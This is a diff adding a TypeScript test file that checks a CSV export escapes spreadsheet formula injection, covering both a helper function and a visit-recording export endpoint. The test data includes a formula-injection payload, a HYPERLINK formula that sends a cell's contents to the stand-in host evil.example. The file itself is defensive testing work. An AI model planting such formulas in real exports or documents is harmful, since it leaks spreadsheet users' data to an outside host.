@@ -1,0 +1,43 @@
+/** Class 7 — CSV exports never hand Excel a formula: cells starting with =, +, -, @, tab or CR are neutralised. */
+import { csvCell } from '../../shared/csv';
+import { startTestStack } from '../helpers/stack';
+
+let stack: Awaited<ReturnType<typeof startTestStack>>;
+beforeAll(async () => {
+  stack = await startTestStack();
+});
+afterAll(() => stack?.stop());
+
+it.each([
+  ['=HYPERLINK("http://evil.example/?d="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"`],
+  ['+1+1', "'+1+1"],
+  ['-2+3', "'-2+3"],
+  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+  ['\t=1', "'\t=1"],
+  ['\r=1', `"'\r=1"`],
+  ['普通の文字', '普通の文字'],
+])('writes %j as %j', (value, cell) => {
+  expect(csvCell(value)).toBe(cell);
+});
+
+it('keeps numbers as numbers, negative ones included', () => {
+  expect(csvCell(-1.5)).toBe('-1.5');
+  expect(csvCell(0)).toBe('0');
+});
+
+it('exports a topic that is a formula as text', async () => {
+  const db = stack.dispatch.subgraph.dataSource;
+  const [{ id: advisorId }] = await db.query("SELECT id FROM advisor WHERE prefecture_code = '01' ORDER BY id LIMIT 1");
+  const formula = '=HYPERLINK("http://evil.example/","開く")';
+  const recorded = await stack.query(
+    'mutation($i: RecordVisitInput!) { recordVisit(input: $i) { id } }',
+    { i: { prefectureCode: '01', date: '2026-11-30', advisorIds: [advisorId], municipalityCodes: ['011002'], format: 'ONLINE', purposes: ['COUNCIL'], topics: [formula], summary: '@cmd' } },
+  );
+  expect(recorded.body.errors).toBeUndefined();
+  const response = await fetch(new URL('/export/visits.csv?prefecture=01', stack.gateway.url), { headers: stack.asAdmin });
+  const csv = await response.text();
+  const row = csv.split('\r\n').find((line) => line.startsWith(recorded.body.data!.recordVisit.id))!;
+  expect(row).toContain(`"'=HYPERLINK(""http://evil.example/"",""開く"")"`);
+  expect(row).toContain(",'@cmd,");
+  expect(row).not.toMatch(/,=|,@|,"=/);
+});
